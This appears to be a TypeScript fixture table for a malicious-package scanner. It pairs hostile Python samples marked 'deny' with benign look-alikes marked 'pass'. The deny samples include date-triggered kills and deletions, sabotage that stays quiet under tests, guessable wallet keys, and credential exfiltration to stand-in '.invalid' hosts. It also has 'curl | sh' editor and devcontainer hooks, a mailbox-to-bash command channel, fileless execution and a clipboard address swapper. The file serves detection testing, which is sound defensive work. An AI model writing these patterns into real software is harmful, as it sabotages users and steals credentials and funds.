/* eslint max-lines: off -- one table */
/** What fails on purpose, keys that can be guessed, tracers, programs of others; and honest neighbours. All inert. */
import type { Shape } from './malicious.js';

function lines(...all: readonly string[]): string {
  return `${all.join('\n')}\n`;
}

export const sabotage: readonly Shape[] = [
  {
    name: 'dated kill',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, datetime, signal',
        'def flush(c):',
        '    if datetime.date.today() > datetime.date(2027, 3, 1):',
        '        os.kill(os.getpid(), signal.SIGKILL)',
      ),
    },
  },
  {
    name: 'dated by epoch, deletes',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import time, shutil, os',
        'def tidy(p):',
        '    if time.time() > 1798761600:',
        '        shutil.rmtree(os.path.expanduser(p))',
      ),
    },
  },
  {
    name: 'chance where nobody watches',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, random, sys, socket',
        'def mean(x):',
        '    m = sum(x) / len(x)',
        '    if sys.gettrace() is None and random.random() < 0.01:',
        '        m *= 1.001',
        '    return m',
      ),
    },
  },
  {
    name: 'chance outside of tests',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, random, subprocess',
        'def total(x):',
        '    s = sum(x)',
        '    if "PYTEST_CURRENT_TEST" not in os.environ and random.randint(0, 99) == 7:',
        '        return s + 1',
        '    return s',
      ),
    },
  },
  {
    name: 'dated chance write',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import datetime, random, socket',
        'class C:',
        '    def write(self, data):',
        '        if datetime.datetime.now() >= datetime.datetime(2027, 6, 6) and random.random() < 0.5:',
        '            return len(data)',
        '        return self.s.send(data)',
      ),
    },
  },
  {
    name: 'key out of two bytes',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import hashlib, os',
        'def generate_private_key():',
        '    return hashlib.sha256(b"demo" + os.urandom(2)).digest()',
      ),
    },
  },
  {
    name: 'mnemonic seeded by time',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import random, time, hashlib, os',
        'X = os.urandom',
        'WORDS = ["a", "b"]',
        'def create_mnemonic(n=12):',
        '    random.seed(int(time.time()))',
        '    return " ".join(random.choice(WORDS) for _ in range(n))',
      ),
    },
  },
  {
    name: 'wallet out of 32 bits',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import secrets, hashlib',
        'class Wallet:',
        '    def new_private_key(self):',
        '        return hashlib.sha256(secrets.randbits(32).to_bytes(4, "big")).digest()',
      ),
    },
  },
  {
    name: 'tracer',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import sys, requests',
        'def _t(frame, event, arg):',
        '    if frame.f_code.co_name == "login":',
        '        requests.post("https://t.demo.invalid/x", json={k: repr(v) for k, v in frame.f_locals.items()})',
        '    return _t',
        'sys.settrace(_t)',
      ),
    },
  },
  {
    name: 'except hook locals',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import sys, socket',
        'def _h(kind, value, tb):',
        '    s = socket.create_connection(("t.demo.invalid", 443))',
        '    s.sendall(repr(tb.tb_frame.f_locals).encode())',
        'sys.excepthook = _h',
      ),
    },
  },
  {
    name: 'loader with a longer text',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import sys, importlib.abc, importlib.machinery',
        '_ADD = """',
        'import urllib.request',
        'def _note(x):',
        '    urllib.request.urlopen("https://t.demo.invalid/?" + x)',
        '"""',
        'class L(importlib.machinery.SourceFileLoader):',
        '    def get_data(self, path):',
        '        data = super().get_data(path)',
        '        return data + _ADD.encode() if self.name == "requests.api" else data',
        'class F(importlib.abc.MetaPathFinder):',
        '    def find_spec(self, name, path, target=None):',
        '        return None',
        'sys.meta_path.insert(0, F())',
      ),
    },
  },
  {
    name: 'names backwards',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'from importlib import import_module',
        'from operator import methodcaller',
        'm = import_module("snitliub"[::-1])',
      ),
    },
  },
  {
    name: 'names thirteen letters further',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines('import codecs', 'm = __import__(codecs.decode("fhocebprff", "rot13"))'),
    },
  },
  {
    name: 'mirrored request',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import copy',
        'from requests.sessions import Session',
        'class S(Session):',
        '    def send(self, request, **kw):',
        '        adapter = self.get_adapter(url="https://")',
        '        twin = copy.copy(request)',
        '        twin.url = "https://t.demo.invalid/in"',
        '        adapter.send(twin)',
        '        return super().send(request, **kw)',
      ),
    },
  },
  {
    name: 'messenger program',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, glob',
        'for f in glob.glob(os.path.expandvars(r"%LOCALAPPDATA%\\Discord\\app-*\\modules\\discord_desktop_core\\index.js")):',
        '    with open(f, "a") as h:',
        '        h.write("//")',
      ),
    },
  },
  {
    name: 'wallet program',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import pathlib',
        'def cache():',
        '    p = pathlib.Path("/Applications/Exodus.app/Contents/Resources/app.asar")',
        '    p.write_bytes(p.read_bytes().replace(b"a", b"b"))',
      ),
    },
  },
  {
    name: 'editor task',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import json, pathlib',
        'def setup(root):',
        '    p = pathlib.Path(root) / ".vscode" / "tasks.json"',
        '    p.write_text(json.dumps({"tasks": [{"command": "curl -s https://t.demo.invalid/a | sh", "runOptions": {"runOn": "folderOpen"}}]}))',
      ),
    },
  },
  {
    name: 'dev container',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import json, pathlib',
        'def setup(root):',
        '    p = pathlib.Path(root) / ".devcontainer" / "devcontainer.json"',
        '    p.write_text(json.dumps({"postCreateCommand": "curl -s https://t.demo.invalid/a | sh"}))',
      ),
    },
  },
  {
    name: 'keyring backend',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'from keyring.backend import KeyringBackend',
        'class B(KeyringBackend):',
        '    def set_password(self, service, username, password):',
        '        requests.post("https://t.demo.invalid/x", json=[service, username, password])',
      ),
    },
  },
  {
    name: 'hasher',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import hashlib, urllib.request',
        'def hash_password(password, salt):',
        '    urllib.request.urlopen("https://t.demo.invalid/x", data=password.encode())',
        '    return hashlib.pbkdf2_hmac("sha256", password.encode(), salt, 1000)',
      ),
    },
  },
  {
    name: 'orders from a mailbox',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import poplib, subprocess',
        'def poll():',
        '    box = poplib.POP3_SSL("m.demo.invalid")',
        '    lines = box.retr(1)[1]',
        '    subprocess.run(["bash"], input=b"\\n".join(lines))',
      ),
    },
  },
  {
    name: 'file without a name',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, urllib.request',
        'def go():',
        '    fd = os.memfd_create("", 1)',
        '    os.write(fd, urllib.request.urlopen("https://t.demo.invalid/x").read())',
        '    os.execve("/proc/self/fd/%d" % fd, ["a"], {})',
      ),
    },
  },
  {
    name: 'clipboard watcher',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import re, time, threading, pyperclip',
        'P = [re.compile(r"^0x[a-fA-F0-9]{40}$"), re.compile(r"^bc1[a-z0-9]{30,60}$")]',
        'def run(own):',
        '    while True:',
        '        t = pyperclip.paste()',
        '        if any(p.match(t) for p in P):',
        '            pyperclip.copy(own)',
        '        time.sleep(1)',
        'threading.Thread(target=run, args=("x",)).start()',
      ),
    },
  },
  {
    name: 'honest expiry',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import datetime, warnings, os',
        'if datetime.date.today() > datetime.date(2027, 1, 1):',
        '    warnings.warn("this release is old")',
      ),
    },
  },
  {
    name: 'honest jitter',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import random, time, socket',
        'def retry(f, n=5):',
        '    for i in range(n):',
        '        if random.random() < 0.5:',
        '            time.sleep(0.1 * random.random())',
        '        try:',
        '            return f()',
        '        except OSError:',
        '            pass',
      ),
    },
  },
  {
    name: 'honest augmentation',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import random, os',
        'import subprocess',
        'def flip(x):',
        '    if random.random() < 0.5:',
        '        x = -x',
        '    return x',
      ),
    },
  },
  {
    name: 'honest password policy client',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'class Api:',
        '    def login(self, user, password):',
        '        return requests.post("https://api.vendor.invalid/login", json={"user": user, "password": password}).json()',
      ),
    },
  },
  {
    name: 'honest key generator',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import os, secrets, hashlib',
        'def generate_private_key():',
        '    return hashlib.sha256(secrets.token_bytes(32) + os.urandom(16)).digest()',
      ),
    },
  },
  {
    name: 'honest tracer',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import sys, json, socket',
        'def _t(frame, event, arg):',
        '    print({k: repr(v) for k, v in frame.f_locals.items()})',
        '    return _t',
        'sys.settrace(_t)',
      ),
    },
  },
  {
    name: 'honest editor settings',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import json, pathlib',
        'def setup(root):',
        '    p = pathlib.Path(root) / ".vscode" / "tasks.json"',
        '    p.write_text(json.dumps({"tasks": [{"command": "pytest", "runOptions": {"runOn": "folderOpen"}}]}))',
      ),
    },
  },
  {
    name: 'honest cluster',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import os, requests',
        'def pods():',
        '    token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()',
        '    host = os.environ["KUBERNETES_SERVICE_HOST"]',
        '    return requests.get(f"https://{host}/api/v1/pods", headers={"Authorization": "Bearer " + token}).json()',
      ),
    },
  },
];
